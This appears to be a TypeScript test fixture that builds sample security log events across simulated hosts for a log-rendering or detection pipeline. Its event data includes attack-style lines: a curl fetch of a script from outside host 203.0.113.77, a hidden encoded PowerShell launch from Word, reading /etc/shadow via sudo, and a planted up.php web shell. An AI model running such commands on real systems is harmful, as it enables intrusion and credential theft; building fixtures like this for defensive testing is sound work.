import type { DrawnAct, DrawnEnd, RenderedAct } from '../../src/contracts/index.ts';

const end = (name: string, address: string, host?: Partial<NonNullable<DrawnEnd['host']>>): DrawnEnd => ({ name, address, isInternal: host !== undefined, ...(host !== undefined && { host: { name, os: 'Ubuntu 22.04', type: 'web', services: [], ...host } }) });

/** Ends that the acts are between. */
export const ends = {
  linux: end('web-01', '10.4.1.20', {}), windows: end('fs-02.corp.example', '10.4.2.30', { os: 'Windows Server 2019', type: 'file' }), controller: end('dc-01.corp.example', '10.4.2.5', { os: 'Windows Server 2022', type: 'domain-controller' }),
  workstation: end('ws-17.corp.example', '10.4.3.40', { os: 'Windows 11', type: 'workstation' }), cloud: end('cloud-main', '198.51.100.10', { os: 'managed', type: 'cloud-service' }), identity: end('idp', '198.51.100.11', { os: 'managed', type: 'identity-provider' }), log: end('siem-01', '10.4.9.9', { type: 'log-server' }),
  mail: end('mail-01', '10.4.1.25', { type: 'mail' }), outside: end('203.0.113.77', '203.0.113.77'), resolver: end('ns-01', '10.4.1.53', { type: 'resolver' }),
};

type Given = Pick<DrawnAct, 'kind' | 'to' | 'data'> & { from?: DrawnEnd; account?: string };

const given: Given[] = [
  { kind: 'ssh-login', from: ends.outside, to: ends.linux, account: 'deploy', data: { isSuccess: true, method: 'password', isKnownAccount: true } },
  { kind: 'ssh-login', from: ends.outside, to: ends.linux, account: 'deploy', data: { isSuccess: true, method: 'publickey', isKnownAccount: true } },
  { kind: 'ssh-login', from: ends.outside, to: ends.linux, account: 'root', data: { isSuccess: false, method: 'password', isKnownAccount: true } },
  { kind: 'ssh-login', from: ends.outside, to: ends.linux, account: 'oracle', data: { isSuccess: false, method: 'password', isKnownAccount: false } },
  { kind: 'ssh-login', from: ends.outside, to: ends.linux, account: 'deploy', data: { isSuccess: false, method: 'publickey', isKnownAccount: true } },
  { kind: 'sudo', to: ends.linux, account: 'deploy', data: { command: '/usr/bin/cat /etc/shadow', isAllowed: true, as: 'root' } },
  { kind: 'sudo', to: ends.linux, account: 'deploy', data: { command: '/usr/bin/cat /etc/shadow', isAllowed: false, as: 'root' } },
  { kind: 'process', to: ends.linux, account: 'www-data', data: { program: '/usr/bin/curl', commandLine: 'curl -fsS http://203.0.113.77/a.sh', parent: '/usr/sbin/apache2' } },
  { kind: 'process', to: ends.windows, account: 'CORP\\jdoe', data: { program: 'powershell.exe', commandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA', parent: 'winword.exe' } },
  { kind: 'file-write', to: ends.linux, account: 'www-data', data: { path: '/var/www/html/up.php', program: '/usr/sbin/apache2' } },
  { kind: 'file-write', to: ends.windows, account: 'jdoe', data: { path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.exe', program: 'powershell.exe' } },
  { kind: 'account-created', to: ends.linux, account: 'deploy', data: { name: 'support2' } },
  { kind: 'account-created', to: ends.controller, account: 'jdoe', data: { name: 'support2' } },
  { kind: 'account-created', from: ends.outside, to: ends.identity, account: 'admin@corp.example', data: { name: 'support2@corp.example' } },
  { kind: 'service-installed', to: ends.linux, account: 'root', data: { name: 'netmond', path: '/usr/local/bin/netmond' } },
  { kind: 'service-installed', to: ends.windows, account: 'jdoe', data: { name: 'WinUpdSvc', path: 'C:\\ProgramData\\upd\\svc.exe -k' } },
  { kind: 'scheduled-task', to: ends.linux, account: 'www-data', data: { name: 'sync', command: '/tmp/.x/run.sh' } },
  { kind: 'scheduled-task', to: ends.linux, account: 'root', data: { name: '/etc/cron.d/sync', command: '/tmp/.x/run.sh' } },
  { kind: 'scheduled-task', to: ends.windows, account: 'jdoe', data: { name: 'Updater', command: 'C:\\ProgramData\\upd\\run.exe -a 1' } },
  { kind: 'malware-alert', to: ends.linux, data: { path: '/tmp/.x/run.sh', threat: 'Unix.Trojan.Mirai-5607483-0', isCleaned: false } },
  { kind: 'malware-alert', to: ends.windows, account: 'jdoe', data: { path: 'C:\\ProgramData\\upd\\run.exe', threat: 'Trojan:Win32/Emotet.ARJ!MTB', isCleaned: true } },
  { kind: 'host-alert', to: ends.linux, account: 'www-data', data: { title: 'Web server started a shell', level: 12, group: 'local', techniqueId: 'T1059.004' } },
  { kind: 'windows-logon', from: ends.workstation, to: ends.windows, account: 'jdoe', data: { isSuccess: true, type: 3, hasSpecialPrivileges: true } },
  { kind: 'windows-logon', from: ends.outside, to: ends.windows, account: 'Administrator', data: { isSuccess: false, type: 10, hasSpecialPrivileges: false } },
  { kind: 'windows-logon', from: ends.workstation, to: ends.linux, account: 'jdoe', data: { isSuccess: true, type: 3, hasSpecialPrivileges: false } },
  { kind: 'windows-logon', from: ends.workstation, to: ends.linux, account: 'jdoe', data: { isSuccess: false, type: 3, hasSpecialPrivileges: false } },
  { kind: 'kerberos-ticket', from: ends.workstation, to: ends.controller, account: 'jdoe', data: { service: 'svc-sql', encryption: 'rc4' } },
  { kind: 'directory-replication', from: ends.workstation, to: ends.controller, account: 'jdoe', data: {} },
  { kind: 'share-access', from: ends.workstation, to: ends.windows, account: 'jdoe', data: { share: '\\\\fs-02\\finance', path: 'q3\\plan.xlsx', isWrite: true } },
  { kind: 'share-access', from: ends.workstation, to: ends.linux, account: 'jdoe', data: { share: 'finance', path: 'q3/plan.xlsx', isWrite: false } },
  { kind: 'connection', from: ends.workstation, to: ends.outside, data: { port: 443, protocol: 'tcp', bytesOut: 600, bytesIn: 1200, seconds: 1, isAllowed: true } },
  { kind: 'dns-query', from: ends.workstation, to: ends.resolver, data: { name: 'cdn.example', type: 'A', answer: '203.0.113.77' } },
  { kind: 'mail', from: ends.outside, to: ends.mail, data: { sender: 'billing@partner.example', recipient: 'j.doe@corp.example', subject: 'Invoice 4471', attachment: 'invoice_4471.xlsm', isRejected: false } },
  { kind: 'mail', from: ends.outside, to: ends.mail, data: { sender: 'billing@partner.example', recipient: 'j.doe@corp.example', subject: 'Invoice 4471', isRejected: true } },
  ...(['imap', 'smtp', 'web'] as const).flatMap((protocol): Given[] => [true, false].map((isSuccess) => ({ kind: 'mail-login', from: ends.outside, to: ends.mail, account: 'j.doe@corp.example', data: { isSuccess, protocol } }))),
  { kind: 'ftp-login', from: ends.outside, to: ends.linux, account: 'upload', data: { isSuccess: true } },
  { kind: 'ftp-login', from: ends.outside, to: ends.linux, account: 'upload', data: { isSuccess: false } },
  { kind: 'file-transfer', from: ends.outside, to: ends.linux, account: 'upload', data: { path: '/srv/ftp/up.php', bytes: 20_480, isUpload: true } },
  { kind: 'database-login', from: ends.outside, to: ends.linux, account: 'app', data: { isSuccess: true, database: 'shop' } },
  { kind: 'database-login', from: ends.outside, to: ends.linux, account: 'app', data: { isSuccess: false, database: 'shop' } },
  { kind: 'database-query', from: ends.outside, to: ends.linux, account: 'app', data: { statement: 'SELECT *\n  FROM customers\n\n  WHERE id = 7', database: 'shop' } },
  { kind: 'cloud-login', from: ends.outside, to: ends.identity, account: 'j.doe@corp.example', data: { isSuccess: true, application: 'Portal', hasSecondFactor: true } },
  { kind: 'cloud-login', from: ends.outside, to: ends.cloud, account: 'j.doe@corp.example', data: { isSuccess: false, application: 'Portal', country: 'NL', hasSecondFactor: false, reason: 'MFA denied' } },
  { kind: 'cloud-call', from: ends.outside, to: ends.cloud, account: 'ci-deploy', data: { service: 's3', action: 'GetObject', resource: 'backup-main/db.dump', isAllowed: true } },
  { kind: 'cloud-call', from: ends.outside, to: ends.cloud, account: 'ci-deploy', data: { service: 'iam', action: 'CreateAccessKey', resource: 'admin', isAllowed: false } },
  { kind: 'kubernetes-call', from: ends.outside, to: ends.linux, account: 'system:serviceaccount:web:default', data: { verb: 'get', resource: 'secrets', namespace: 'web', name: 'db', isAllowed: true } },
  { kind: 'kubernetes-call', from: ends.outside, to: ends.linux, account: 'system:serviceaccount:web:default', data: { verb: 'create', resource: 'pods/exec', namespace: 'web', name: 'web-0', isAllowed: false } },
  { kind: 'message', to: ends.linux, data: { program: 'CRON', text: '(root) CMD (/usr/local/bin/backup.sh)', severity: 'info' } },
  { kind: 'message', to: ends.linux, data: { program: 'postgres', text: 'could not write to file "base/1": No space left on device', severity: 'error' } },
  { kind: 'message', to: ends.windows, data: { program: 'BackupAgent', text: 'The nightly job ended with warnings', severity: 'warning' } },
  { kind: 'message', to: ends.mail, data: { program: 'postfix/qmgr', text: 'warning: connect to transport private/x: Connection refused', severity: 'warning' } },
];

/** One of each act that hosts and services write down, three seconds apart. */
export const acts = given.map((act, index) => ({ sourcePort: 40_000 + index, serial: 100 + index, timeMs: Date.UTC(2026, 2, 1, 10, 0, 0, 570) + index * 3011, ...act })) as RenderedAct[];
